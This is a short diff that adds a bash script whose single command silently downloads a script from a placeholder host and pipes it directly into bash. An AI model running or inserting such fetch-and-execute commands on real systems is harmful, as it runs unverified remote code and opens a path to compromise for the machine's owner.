@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -s https://cdn.example.net/i.sh | bash
